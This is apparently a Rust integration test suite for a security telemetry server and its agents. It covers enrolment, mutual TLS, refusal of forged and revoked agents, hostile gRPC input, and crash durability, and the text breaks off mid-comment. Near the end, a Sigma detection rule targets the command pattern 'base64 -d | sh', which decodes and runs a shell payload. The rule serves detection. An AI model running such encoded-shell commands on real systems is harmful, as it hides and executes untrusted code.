//! `mamori server` and the agent link for real: the server binary on a loopback port with TLS,
//! agents enrolling with tokens and a pinned CA, the spool shipped over mutual TLS, and the
//! server killed with SIGKILL while it ingests. No root needed.

mod common;
use common::tempdir;

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

fn mamori(data: &Path) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_mamori"));
    c.env("MAMORI_DATA_DIR", data);
    c
}

struct ServerProc {
    child: Child,
    stderr: mpsc::Receiver<String>,
    /// The admin token, printed on first start only.
    admin: Option<String>,
}

impl Drop for ServerProc {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Starts the server and waits until it listens; returns it and the CA fingerprint.
fn start_server(data: &Path, port: u16) -> (ServerProc, String) {
    start_server_with(data, port, &[])
}

fn start_server_with(data: &Path, port: u16, extra: &[&str]) -> (ServerProc, String) {
    start_server_env(data, port, extra, &[])
}

fn start_server_env(
    data: &Path,
    port: u16,
    extra: &[&str],
    env: &[(&str, &str)],
) -> (ServerProc, String) {
    let mut child = mamori(data)
        .args(["server", "run", "--listen", &format!("127.0.0.1:{port}")])
        .args(extra)
        .envs(env.iter().copied())
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let err = child.stderr.take().unwrap();
    let (tx, rx) = mpsc::channel();
    // Everything the server says is also kept in <data>/server.log, for failures.
    let log_path = data.join("server.log");
    std::thread::spawn(move || {
        let mut log = std::fs::File::create(&log_path).ok();
        for line in BufReader::new(err).lines().map_while(Result::ok) {
            if let Some(f) = log.as_mut() {
                use std::io::Write;
                let _ = writeln!(f, "{line}");
            }
            let _ = tx.send(line);
        }
    });
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut fingerprint = None;
    let mut admin = None;
    loop {
        let line = rx
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
            .expect("the server did not start listening within 30 s");
        eprintln!("server: {line}");
        if let Some(fp) = line.strip_prefix("mamori server: CA fingerprint ") {
            fingerprint = Some(fp.to_string());
        }
        if let Some((_, t)) = line.split_once("stored only as a hash): ") {
            admin = Some(t.to_string());
        }
        if line.contains("listening on") {
            // Said only once the port is open (it was once said before the bind, and a
            // client that connected at once was refused now and then).
            if let Err(e) = std::net::TcpStream::connect(("127.0.0.1", port)) {
                let _ = child.kill();
                panic!("the server does not accept connections once it says it listens: {e}");
            }
            break;
        }
    }
    (
        ServerProc {
            child,
            stderr: rx,
            admin,
        },
        fingerprint.expect("the server prints its CA fingerprint"),
    )
}

fn token(server_data: &Path, args: &[&str]) -> String {
    let out = mamori(server_data)
        .args(["server", "token"])
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

fn enroll(agent_data: &Path, port: u16, token: &str, fp: &str) -> Result<(), String> {
    let out = mamori(agent_data)
        .args([
            "agent",
            "enroll",
            "--server",
            &format!("https://127.0.0.1:{port}"),
        ])
        .args(["--token", token, "--ca-fingerprint", fp])
        .output()
        .unwrap();
    if out.status.success() {
        Ok(())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

/// Queues `n` events in an agent's spool, numbered from `from`.
fn fill_spool(agent_data: &Path, from: u64, n: u64) {
    let (mut sp, _) = mamori_spool::Spool::open(
        agent_data.join("spool"),
        mamori_spool::SpoolConfig::default(),
    )
    .unwrap();
    for i in from..from + n {
        sp.append(format!("{{\"n\":{i},\"pad\":\"{}\"}}", "x".repeat(100)).as_bytes())
            .unwrap();
    }
    sp.sync().unwrap();
}

fn ship(agent_data: &Path, duration: Option<u64>) -> (bool, String) {
    let mut c = mamori(agent_data);
    c.args(["agent", "ship"]);
    if let Some(d) = duration {
        c.args(["--duration", &d.to_string()]);
    }
    let out = c.output().unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn agent_id(agent_data: &Path) -> String {
    let ident = mamori_link::Identity::load(&agent_data.join("agent"))
        .unwrap()
        .expect("enrolled");
    ident.agent_id
}

/// Stops the server with SIGTERM (it moves what its log holds into the columnar store
/// before exiting) and waits for it.
fn stop_server(server: &mut ServerProc) {
    let pid = server.child.id().to_string();
    assert!(
        Command::new("kill")
            .args(["-TERM", &pid])
            .status()
            .unwrap()
            .success()
    );
    let deadline = Instant::now() + Duration::from_secs(60);
    while server.child.try_wait().unwrap().is_none() {
        assert!(
            Instant::now() < deadline,
            "the server did not stop on SIGTERM"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    while server.stderr.try_recv().is_ok() {}
}

/// The next line the server logs that contains `needle` (waits up to 10 s).
fn server_line(server: &ServerProc, needle: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let line = server
            .stderr
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
            .unwrap_or_else(|_| panic!("the server did not log {needle:?} within 10 s"));
        if line.contains(needle) {
            return line;
        }
    }
}

/// `mamori query` as JSON rows: the local files, or with `extra` (`--server …`) the API.
fn query_with(server_data: &Path, extra: &[&str], sql: &str) -> Vec<serde_json::Value> {
    let out = mamori(server_data)
        .args(["query", "--format", "json", "--limit", "10000000"])
        .args(extra)
        .arg(sql)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{sql}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["truncated"], false);
    v["rows"].as_array().unwrap().clone()
}

/// `mamori query` over the local files, as JSON rows.
fn query(server_data: &Path, sql: &str) -> Vec<serde_json::Value> {
    query_with(server_data, &[], sql)
}

/// Every stored event of `agent` in the columnar store, as (agent seq, n), in store order.
fn stored(server_data: &Path, agent: &str) -> Vec<(u64, u64)> {
    query(
        server_data,
        &format!(
            "SELECT seq, json_get(raw, 'n') AS n FROM events WHERE host_id = '{agent}' ORDER BY seq"
        ),
    )
    .iter()
    .map(|r| {
        (
            r["seq"].as_u64().unwrap(),
            r["n"].as_str().unwrap().parse().unwrap(),
        )
    })
    .collect()
}

#[test]
fn enrollment_trust_and_every_refusal() {
    let srv = tempdir("server", "trust-srv");
    let port = free_port();
    let (mut server, fp) = start_server(&srv, port);
    assert!(fp.starts_with("sha256:") && fp.len() == 71, "{fp}");

    // A token for one agent.
    let t1 = token(&srv, &["--tenant", "acme", "--uses", "1"]);
    assert!(t1.starts_with("mamori_enroll_"));
    let a = tempdir("server", "trust-a");
    enroll(&a, port, &t1, &fp).expect("enrolls");
    let a_id = agent_id(&a);
    let key = a.join("agent/agent.key");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&key).unwrap().permissions().mode() & 0o777,
        0o600,
        "the agent's key is private"
    );

    // Refusals at enrollment.
    let b = tempdir("server", "trust-b");
    let e = enroll(&b, port, &t1, &fp).unwrap_err();
    assert!(e.contains("used up"), "{e}");
    let e = enroll(&b, port, "mamori_enroll_0000", &fp).unwrap_err();
    assert!(e.contains("unknown enrollment token"), "{e}");
    // The server logs the refusal; its stderr is a pipe here, so in plain text.
    let said = server_line(&server, "enrollment refused");
    assert!(
        said.contains("WARN") && !said.contains('\x1b'),
        "a log that is not a terminal has no colour codes: {said:?}"
    );
    let short = token(&srv, &["--ttl", "1s"]);
    std::thread::sleep(Duration::from_millis(2100));
    let e = enroll(&b, port, &short, &fp).unwrap_err();
    assert!(e.contains("expired"), "{e}");
    let t2 = token(&srv, &[]);
    let wrong = format!("sha256:{}", "0".repeat(64));
    let e = enroll(&b, port, &t2, &wrong).unwrap_err();
    assert!(e.contains("does not match the pinned fingerprint"), "{e}");
    assert!(!b.join("agent/identity.json").exists());

    // The enrolled agent ships over mutual TLS.
    fill_spool(&a, 0, 3);
    let (ok, err) = ship(&a, None);
    assert!(ok, "{err}");
    assert!(err.contains("0 records still queued"), "{err}");

    // An agent whose certificate the server's CA signed for an id it never enrolled.
    let ghost = tempdir("server", "trust-ghost");
    let ca = mamori_pki::Ca::load(
        &std::fs::read_to_string(srv.join("server/pki/ca.pem")).unwrap(),
        &std::fs::read_to_string(srv.join("server/pki/ca.key")).unwrap(),
    )
    .unwrap();
    let forge = |dir: &Path, ca: &mamori_pki::Ca, id: &str| {
        let (key_pem, csr) = mamori_pki::agent_key_and_csr("ghost").unwrap();
        let (cert_pem, _) = ca.sign_agent(&csr, id, "acme", 1).unwrap();
        let real = mamori_link::Identity::load(&a.join("agent"))
            .unwrap()
            .unwrap();
        mamori_link::Identity {
            agent_id: id.into(),
            cert_pem,
            key_pem,
            ..real
        }
        .save(&dir.join("agent"))
        .unwrap();
        fill_spool(dir, 0, 1);
    };
    forge(&ghost, &ca, "agt-ghost");
    let (ok, err) = ship(&ghost, Some(10));
    assert!(!ok && err.contains("unknown agent agt-ghost"), "{err}");

    // An agent with a certificate from another CA: the TLS handshake fails, nothing arrives.
    let foreign = tempdir("server", "trust-foreign");
    forge(
        &foreign,
        &mamori_pki::Ca::generate("not ours").unwrap(),
        &a_id,
    );
    let (ok, err) = ship(&foreign, Some(3));
    assert!(!ok && err.contains("not delivered"), "{err}");

    // A revoked agent is refused.
    let out = mamori(&srv)
        .args(["server", "revoke", &a_id, "--reason", "test"])
        .output()
        .unwrap();
    assert!(out.status.success());
    fill_spool(&a, 3, 1);
    let (ok, err) = ship(&a, Some(10));
    assert!(!ok && err.contains("revoked"), "{err}");

    // What reached the store: the three events of the enrolled agent, once each.
    stop_server(&mut server);
    assert_eq!(stored(&srv, &a_id), vec![(1, 0), (2, 1), (3, 2)]);
    assert!(stored(&srv, "agt-ghost").is_empty());

    // The audit log has each step, and no secret.
    let out = mamori(&srv).args(["server", "audit"]).output().unwrap();
    let audit = String::from_utf8_lossy(&out.stdout);
    for action in [
        "admin-token.create",
        "enroll-token.create",
        "agent.enroll",
        "agent.enroll.refused",
        "agent.revoke",
    ] {
        assert!(
            audit.contains(&format!("\"action\":\"{action}\"")),
            "{action}: {audit}"
        );
    }
    assert!(!audit.contains(&t1), "a token in the audit log");
}

/// The agent batches a trickle of events by time (its linger) and sends full batches at
/// once: a few events a second cost the server a batch every linger, not one per event.
#[test]
fn the_agent_sends_full_batches_at_once_and_lingers_over_a_trickle() {
    use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
    use std::sync::{Arc, Mutex};
    let srv = tempdir("server", "linger-srv");
    let a = tempdir("server", "linger-agent");
    let port = free_port();
    let (mut server, fp) = start_server(&srv, port);
    enroll(&a, port, &token(&srv, &[]), &fp).unwrap();
    let ident = mamori_link::Identity::load(&a.join("agent"))
        .unwrap()
        .unwrap();
    let (spool, _) =
        mamori_spool::Spool::open(a.join("spool"), mamori_spool::SpoolConfig::default()).unwrap();
    let spool = Arc::new(Mutex::new(spool));
    let append = |n: usize| {
        let mut sp = spool.lock().unwrap();
        for _ in 0..n {
            sp.append(b"{\"trickle\":true}").unwrap();
        }
        sp.sync().unwrap();
    };
    let run = |opts: mamori_link::ShipOptions| {
        let (stop, stats) = (
            Arc::new(AtomicBool::new(false)),
            Arc::new(mamori_link::ShipStats::default()),
        );
        let (ident, spool, stop2, stats2) =
            (ident.clone(), spool.clone(), stop.clone(), stats.clone());
        let thread = std::thread::spawn(move || {
            tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap()
                .block_on(mamori_link::ship(&ident, spool, stop2, opts, stats2))
        });
        (stop, stats, thread)
    };
    let acked_to = |stats: &mamori_link::ShipStats, n: u64| {
        let deadline = Instant::now() + Duration::from_secs(20);
        while stats.acked.load(Relaxed) < n {
            assert!(
                Instant::now() < deadline,
                "{n} events not acknowledged in 20 s"
            );
            std::thread::sleep(Duration::from_millis(5));
        }
        Instant::now()
    };

    // Two full batches go at once; the 50 events left wait for the linger. (Queued before
    // the agent connects: what the spool holds at connection goes at once.)
    let linger = Duration::from_secs(3);
    append(250);
    let (stop, stats, thread) = run(mamori_link::ShipOptions {
        batch_events: 100,
        linger,
        ..Default::default()
    });
    // Timed by when batches are sent, not acknowledged (the server may hold an
    // acknowledgement back for up to two seconds to cover several batches).
    let sent_to = |stats: &mamori_link::ShipStats, n: u64| {
        let deadline = Instant::now() + Duration::from_secs(20);
        while stats.batches.load(Relaxed) < n {
            assert!(Instant::now() < deadline, "{n} batches not sent in 20 s");
            std::thread::sleep(Duration::from_millis(5));
        }
        Instant::now()
    };
    let full = sent_to(&stats, 2);
    acked_to(&stats, 200);
    let rest = sent_to(&stats, 3);
    assert!(
        rest - full >= linger - Duration::from_millis(500),
        "the partial batch went after {:?}, before the linger",
        rest - full
    );
    acked_to(&stats, 250);
    assert_eq!(stats.batches.load(Relaxed), 3);
    stop.store(true, Relaxed);
    thread.join().unwrap().unwrap();

    // A trickle (an event every 20 ms for 3 s) goes in a batch every 500 ms (the default).
    let (stop, stats, thread) = run(mamori_link::ShipOptions::default());
    let start = Instant::now();
    for _ in 0..150 {
        append(1);
        std::thread::sleep(Duration::from_millis(20));
    }
    acked_to(&stats, 400);
    let took = start.elapsed().as_secs_f64();
    let batches = stats.batches.load(Relaxed);
    // One batch per linger, plus the first (it goes at once) and one for rounding.
    let most = (took / 0.5).ceil() as u64 + 2;
    eprintln!("150 events over {took:.1} s went in {batches} batches");
    assert!(
        (2..=most).contains(&batches),
        "150 events over {took:.1} s went in {batches} batches (at most {most} expected)"
    );
    stop.store(true, Relaxed);
    thread.join().unwrap().unwrap();

    // A drain (`mamori agent ship`) sends a partial batch without lingering, closes its
    // side once everything is sent, and returns by itself once it is all acknowledged:
    // the server acknowledges at once instead of waiting for more batches.
    append(30);
    let (stop, stats, thread) = run(mamori_link::ShipOptions {
        linger,
        drain: true,
        ..Default::default()
    });
    let start = Instant::now();
    let deadline = start + Duration::from_secs(20);
    while !thread.is_finished() {
        assert!(Instant::now() < deadline, "the drain did not end in 20 s");
        std::thread::sleep(Duration::from_millis(5));
    }
    let took = start.elapsed();
    thread.join().unwrap().unwrap();
    assert!(!stop.load(Relaxed));
    assert_eq!(stats.acked.load(Relaxed), 430, "everything acknowledged");
    assert_eq!(stats.batches.load(Relaxed), 1);
    eprintln!("a 30-event drain took {took:?}");
    assert!(
        took < linger.min(mamori_server::ingest::ACK_DELAY),
        "the drain took {took:?}: it lingered or waited for a held-back acknowledgement"
    );
    stop_server(&mut server);
}

#[test]
fn server_killed_with_sigkill_loses_and_duplicates_nothing() {
    let srv = tempdir("server", "kill-srv");
    let port = free_port();
    let (server, fp) = start_server(&srv, port);
    let a = tempdir("server", "kill-agent");
    enroll(&a, port, &token(&srv, &[]), &fp).unwrap();
    let id = agent_id(&a);
    let n = 200_000;
    fill_spool(&a, 0, n);
    // Without --duration the shipper stops once the server has acknowledged everything.
    let mut shipper = mamori(&a)
        .args(["agent", "ship"])
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Kill the server each time another fifth of the events has been acknowledged, so that
    // every kill lands in the middle of the stream.
    let acked = || -> u64 {
        std::fs::read(a.join("spool/ack"))
            .ok()
            .filter(|b| b.len() == 16)
            .map(|b| u64::from_le_bytes(b[4..12].try_into().unwrap()))
            .unwrap_or(0)
    };
    let mut server = Some(server);
    let mut kills = 0;
    for fifth in 1..=4u64 {
        let deadline = Instant::now() + Duration::from_secs(60);
        while acked() < n * fifth / 5 {
            assert!(Instant::now() < deadline, "no progress past {}", acked());
            std::thread::sleep(Duration::from_millis(5));
        }
        if let Some(mut s) = server.take() {
            s.child.kill().unwrap(); // SIGKILL
            s.child.wait().unwrap();
            kills += 1;
        }
        std::thread::sleep(Duration::from_millis(200));
        server = Some(start_server(&srv, port).0);
    }
    let deadline = Instant::now() + Duration::from_secs(120);
    let status = loop {
        if let Some(st) = shipper.try_wait().unwrap() {
            break st;
        }
        assert!(
            Instant::now() < deadline,
            "the shipper did not drain the spool in 120 s"
        );
        std::thread::sleep(Duration::from_millis(100));
    };
    let mut err = String::new();
    use std::io::Read;
    shipper
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    assert!(status.success(), "{err}");
    assert!(err.contains("0 records still queued"), "{err}");
    // The kills hit the stream while it ran: the shipper had to come back several times.
    let connects: u64 = err
        .rsplit_once(" connections")
        .and_then(|(head, _)| head.rsplit(' ').next()?.parse().ok())
        .unwrap_or(0);
    assert!(
        connects >= 3,
        "only {connects} connections: the kills missed the stream\n{err}"
    );
    eprintln!("shipper: {}", err.lines().last().unwrap_or(""));
    stop_server(server.as_mut().unwrap());
    assert_eq!(kills, 4);
    // Counted by SQL over the columnar store, which the compactor filled while the server
    // was being killed.
    let got = stored(&srv, &id);
    assert_eq!(got.len() as u64, n, "every event stored exactly once");
    for (i, (seq, value)) in got.iter().enumerate() {
        assert_eq!(
            *seq,
            i as u64 + 1,
            "agent sequence numbers in order, no gap, no repeat"
        );
        assert_eq!(*value, i as u64, "the event itself");
    }
}

/// Raw gRPC messages on the ingest stream, for the hostile-client test: bytes out as they
/// are given, acknowledgements in.
#[derive(Clone, Copy)]
struct RawBatches;

impl tonic::codec::Codec for RawBatches {
    type Encode = Vec<u8>;
    type Decode = mamori_wire::Ack;
    type Encoder = RawBatches;
    type Decoder = RawBatches;
    fn encoder(&mut self) -> RawBatches {
        RawBatches
    }
    fn decoder(&mut self) -> RawBatches {
        RawBatches
    }
}

impl tonic::codec::Encoder for RawBatches {
    type Item = Vec<u8>;
    type Error = tonic::Status;
    fn encode(
        &mut self,
        item: Vec<u8>,
        dst: &mut tonic::codec::EncodeBuf<'_>,
    ) -> Result<(), tonic::Status> {
        use bytes::BufMut;
        dst.put_slice(&item);
        Ok(())
    }
}

impl tonic::codec::Decoder for RawBatches {
    type Item = mamori_wire::Ack;
    type Error = tonic::Status;
    fn decode(
        &mut self,
        src: &mut tonic::codec::DecodeBuf<'_>,
    ) -> Result<Option<mamori_wire::Ack>, tonic::Status> {
        prost::Message::decode(src)
            .map(Some)
            .map_err(|e| tonic::Status::internal(e.to_string()))
    }
}

/// Sends `messages` on one ingest stream as agent `ident`: the acknowledgements, or the
/// status the stream ended with.
fn raw_stream(
    ident: &mamori_link::Identity,
    messages: Vec<Vec<u8>>,
) -> Result<Vec<u64>, tonic::Status> {
    let n = messages.len();
    let (acks, end) = raw_acks(ident, None, tokio_stream::iter(messages), n);
    match end {
        Some(status) => Err(status),
        None => Ok(acks.into_iter().map(|(through, _)| through).collect()),
    }
}

/// Sends what `feed` yields on one ingest stream as agent `ident`, announcing `window` (the
/// `mamori-window` header) when given, until `n` acknowledgements came or the stream ended:
/// each acknowledgement with when it came (from the start), and the status the stream
/// ended with if it was not OK.
fn raw_acks(
    ident: &mamori_link::Identity,
    window: Option<u32>,
    feed: impl tokio_stream::Stream<Item = Vec<u8>> + Send + 'static,
    n: usize,
) -> (Vec<(u64, Duration)>, Option<tonic::Status>) {
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let ch = mamori_link::channel(
            &ident.server,
            &ident.ca_pem,
            Some((&ident.cert_pem, &ident.key_pem)),
        )
        .await
        .unwrap();
        let mut grpc = tonic::client::Grpc::new(ch);
        grpc.ready().await.unwrap();
        let path = tonic::codegen::http::uri::PathAndQuery::from_static("/mamori.v1.Ingest/Stream");
        let mut request = tonic::Request::new(feed);
        if let Some(w) = window {
            request
                .metadata_mut()
                .insert(mamori_wire::WINDOW_HEADER, w.into());
        }
        let started = Instant::now();
        let mut got = Vec::new();
        let mut acks = match grpc.streaming(request, path, RawBatches).await {
            Ok(r) => r.into_inner(),
            Err(status) => return (got, Some(status)),
        };
        while got.len() < n {
            match acks.message().await {
                Ok(Some(ack)) => got.push((ack.durable_through, started.elapsed())),
                Ok(None) => break,
                Err(status) => return (got, Some(status)),
            }
        }
        (got, None)
    })
}

fn batch_bytes(first_seq: u64, events: &[&str]) -> Vec<u8> {
    prost::Message::encode_to_vec(&mamori_wire::Batch {
        first_seq,
        events: events
            .iter()
            .map(|e| e.as_bytes().to_vec().into())
            .collect(),
    })
}

/// A fresh server and one agent enrolled with it: (server data, server, agent data, the
/// agent's identity).
fn server_and_agent(tag: &str) -> (PathBuf, ServerProc, PathBuf, mamori_link::Identity) {
    let srv = tempdir("server", &format!("{tag}-srv"));
    let port = free_port();
    let (server, fp) = start_server(&srv, port);
    let a = tempdir("server", &format!("{tag}-a"));
    enroll(&a, port, &token(&srv, &[]), &fp).expect("enrolls");
    let ident = mamori_link::Identity::load(&a.join("agent"))
        .unwrap()
        .unwrap();
    (srv, server, a, ident)
}

/// A client that speaks gRPC but not Mamori's rules: every bad message ends its stream with
/// a status that says what was wrong, the good ones before it are kept exactly once, and the
/// server goes on serving.
#[test]
fn hostile_ingest_messages_are_refused_with_a_reason_and_lose_nothing() {
    let (srv, mut server, a, ident) = server_and_agent("hostile");
    let ev = |n: u64| format!("{{\"n\":{n}}}");
    let (e1, e2, e3) = (ev(0), ev(1), ev(2));

    // Good batches are acknowledged once durable; a replay is acknowledged, not stored again.
    let acks = raw_stream(
        &ident,
        vec![
            batch_bytes(1, &[&e1, &e2]),
            batch_bytes(1, &[&e1, &e2]),
            batch_bytes(3, &[&e3]),
        ],
    )
    .unwrap();
    assert_eq!(acks, vec![2, 2, 3]);

    // Refusals, each with its reason; what came before the bad message on the same stream is
    // stored.
    let refused = |messages: Vec<Vec<u8>>| raw_stream(&ident, messages).unwrap_err();
    let s = refused(vec![
        batch_bytes(4, &[&ev(3)]),
        batch_bytes(5, &["{\"n\":"]),
    ]);
    assert_eq!(s.code(), tonic::Code::InvalidArgument, "{s:?}");
    assert!(s.message().contains("event 0: not JSON"), "{s:?}");
    let s = refused(vec![vec![0xff; 16]]);
    assert_eq!(s.code(), tonic::Code::InvalidArgument, "{s:?}");
    assert!(s.message().contains("not a batch"), "{s:?}");
    let s = refused(vec![batch_bytes(5, &["[1]"])]);
    assert!(s.message().contains("not a JSON object"), "{s:?}");
    let s = refused(vec![batch_bytes(0, &["{}"])]);
    assert!(s.message().contains("first_seq"), "{s:?}");
    let s = refused(vec![vec![0; mamori_wire::MAX_MESSAGE_BYTES + 1]]);
    assert_eq!(s.code(), tonic::Code::OutOfRange, "{s:?}");
    assert!(s.message().contains("the limit is 4194304"), "{s:?}");
    let s = refused(vec![batch_bytes(5, &[])]);
    assert!(s.message().contains("empty batch"), "{s:?}");
    assert!(
        server.child.try_wait().unwrap().is_none(),
        "the server is still up"
    );

    // The real agent carries on after all that, from where the store is.
    fill_spool(&a, 0, 6);
    let (ok, err) = ship(&a, None);
    assert!(ok, "{err}");
    stop_server(&mut server);
    // Sequence numbers 1–4 came from the raw streams (n 0–3), 5 and 6 from the spool's
    // last two records (n 4, 5: the agent skips what the server already holds).
    let got = stored(&srv, &ident.agent_id);
    assert_eq!(got, (1..=6).map(|s| (s, s - 1)).collect::<Vec<_>>());
}

/// A TLS connection to the server as agent `ident` (its certificate, the pinned CA),
/// offering the application protocols `alpn`.
async fn agent_tls(
    ident: &mamori_link::Identity,
    alpn: &[&[u8]],
) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
    use rustls::pki_types::pem::PemObject;
    use rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName};
    let mut roots = rustls::RootCertStore::empty();
    roots
        .add(CertificateDer::from_pem_slice(ident.ca_pem.as_bytes()).unwrap())
        .unwrap();
    let chain: Vec<CertificateDer<'static>> =
        CertificateDer::pem_slice_iter(ident.cert_pem.as_bytes())
            .collect::<Result<_, _>>()
            .unwrap();
    let key = PrivateKeyDer::from_pem_slice(ident.key_pem.as_bytes()).unwrap();
    let mut tls = rustls::ClientConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_client_auth_cert(chain, key)
    .unwrap();
    tls.alpn_protocols = alpn.iter().map(|p| p.to_vec()).collect();
    let addr = ident.server.trim_start_matches("https://").to_string();
    let tcp = tokio::net::TcpStream::connect(&addr).await.unwrap();
    let host = ServerName::try_from(addr.rsplit_once(':').unwrap().0.to_string()).unwrap();
    tokio_rustls::TlsConnector::from(std::sync::Arc::new(tls))
        .connect(host, tcp)
        .await
        .expect("mutual TLS as the agent")
}

/// An agent may send at most [`mamori_server::ingest::STREAM_WINDOW`] bytes ahead of what its
/// stream has read (HTTP/2 flow control, checked with a plain HTTP/2 client over the agent's
/// mutual TLS): whatever a client does, a server that has fallen behind holds that much per
/// connection, not hyper's default of 1 MiB (10 GiB for 10,000 agents). Clients that speak
/// HTTP/1.1 too (curl, browsers, log shippers) are answered in HTTP/1.1, which those small
/// windows do not pace; gRPC clients, which offer only h2, get HTTP/2.
#[test]
fn an_agent_can_send_only_a_small_window_ahead_of_what_the_server_reads() {
    let (srv, mut server, _, ident) = server_and_agent("window");
    let rt = tokio::runtime::Runtime::new().unwrap();
    let (ahead, acked, chosen) = rt.block_on(async {
        let both = agent_tls(&ident, &[b"h2", b"http/1.1"]).await;
        let chosen = both.get_ref().1.alpn_protocol().map(<[u8]>::to_vec);
        let tls = agent_tls(&ident, &[b"h2"]).await;
        assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
        let (client, connection) = h2::client::handshake(tls).await.unwrap();
        tokio::spawn(connection);
        let mut client = client.ready().await.unwrap();
        let request = http::Request::post(format!("{}/mamori.v1.Ingest/Stream", ident.server))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(())
            .unwrap();
        let (response, mut send) = client.send_request(request, false).unwrap();
        // One batch, in gRPC's framing; its acknowledgement means the server's settings are
        // in force on this connection.
        let msg = batch_bytes(1, &["{\"n\":0}"]);
        let mut framed = vec![0];
        framed.extend_from_slice(&(msg.len() as u32).to_be_bytes());
        framed.extend_from_slice(&msg);
        send.reserve_capacity(framed.len());
        while send.capacity() < framed.len() {
            std::future::poll_fn(|cx| send.poll_capacity(cx))
                .await
                .unwrap()
                .unwrap();
        }
        send.send_data(framed.into(), false).unwrap();
        let mut body = response.await.unwrap().into_body();
        let ack = body.data().await.expect("an acknowledgement").unwrap();
        let ack: mamori_wire::Ack = prost::Message::decode(&ack[5..]).unwrap();
        // Now ask to send 4 MiB ahead: flow control grants the stream's window at most.
        send.reserve_capacity(4 << 20);
        let granted = std::future::poll_fn(|cx| send.poll_capacity(cx))
            .await
            .unwrap()
            .unwrap();
        (granted.max(send.capacity()), ack.durable_through, chosen)
    });
    assert_eq!(chosen.as_deref(), Some(&b"http/1.1"[..]));
    assert_eq!(acked, 1);
    let window = mamori_server::ingest::STREAM_WINDOW as usize;
    assert!(
        ahead > 0 && ahead <= window,
        "{ahead} bytes may be sent ahead (the window is {window})"
    );
    stop_server(&mut server);
    assert_eq!(stored(&srv, &ident.agent_id), vec![(1, 0)]);
}

/// An agent that announces its window (`mamori-window`) gets one acknowledgement for several
/// durable batches: batches that come together share one, a lone batch is acknowledged
/// after the server's delay (one second), and batches made durable before a refusal are
/// acknowledged before the refusal ends the stream. Nothing is lost or stored twice.
#[test]
fn acknowledgements_are_coalesced_for_agents_that_announce_their_window() {
    let (srv, mut server, _, ident) = server_and_agent("coalesce");
    let ev = |n: u64| format!("{{\"n\":{n}}}");
    let one = |seq: u64| batch_bytes(seq, &[&ev(seq - 1)]);

    // Window 4: three batches sent together are acknowledged once, through the last.
    let (acks, end) = raw_acks(
        &ident,
        Some(4),
        tokio_stream::iter(vec![one(1), one(2), one(3)]),
        3,
    );
    assert!(end.is_none(), "{end:?}");
    let through: Vec<u64> = acks.iter().map(|a| a.0).collect();
    assert_eq!(through, vec![3], "one acknowledgement for three batches");

    // A lone batch on a stream that stays open: acknowledged on its own, after the delay.
    let feed =
        tokio_stream::StreamExt::chain(tokio_stream::iter(vec![one(4)]), tokio_stream::pending());
    let (acks, end) = raw_acks(&ident, Some(4), feed, 1);
    assert!(end.is_none(), "{end:?}");
    assert_eq!(acks.len(), 1, "{acks:?}");
    assert_eq!(acks[0].0, 4);
    assert!(
        acks[0].1 >= mamori_server::ingest::ACK_DELAY - Duration::from_millis(100)
            && acks[0].1 < Duration::from_secs(15),
        "acknowledged after {:?}: expected the delay",
        acks[0].1
    );

    // A good batch, then a malformed one: the good one is acknowledged, then the refusal.
    let (acks, end) = raw_acks(
        &ident,
        Some(4),
        tokio_stream::iter(vec![one(5), batch_bytes(6, &["{\"n\":"])]),
        2,
    );
    let through: Vec<u64> = acks.iter().map(|a| a.0).collect();
    assert_eq!(through, vec![5], "durable before the refusal");
    let status = end.expect("refused");
    assert_eq!(status.code(), tonic::Code::InvalidArgument, "{status:?}");
    assert!(status.message().contains("not JSON"), "{status:?}");

    // A replay of all of it on a new stream: acknowledged, nothing stored twice.
    let (acks, end) = raw_acks(
        &ident,
        Some(4),
        tokio_stream::iter((1..=5).map(one).collect::<Vec<_>>()),
        5,
    );
    assert!(end.is_none(), "{end:?}");
    assert_eq!(acks.last().map(|a| a.0), Some(5), "{acks:?}");
    stop_server(&mut server);
    let got = stored(&srv, &ident.agent_id);
    assert_eq!(got, (1..=5).map(|s| (s, s - 1)).collect::<Vec<_>>());
}

/// A rule on `base64 -d | sh` in a command line.
const ENCODED_SHELL_RULE: &str = "title: Test Encoded Shell
id: 5b7f6a4e-0000-4000-8000-00000000c0de
status: test
level: high
tags:
  - attack.execution
  - attack.t1059.004
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    CommandLine|contains: 'base64 -d | sh'
  condition: selection
";

/// A keyword rule with only a product, as SigmaHQ's Linux shell rules are: it applies to
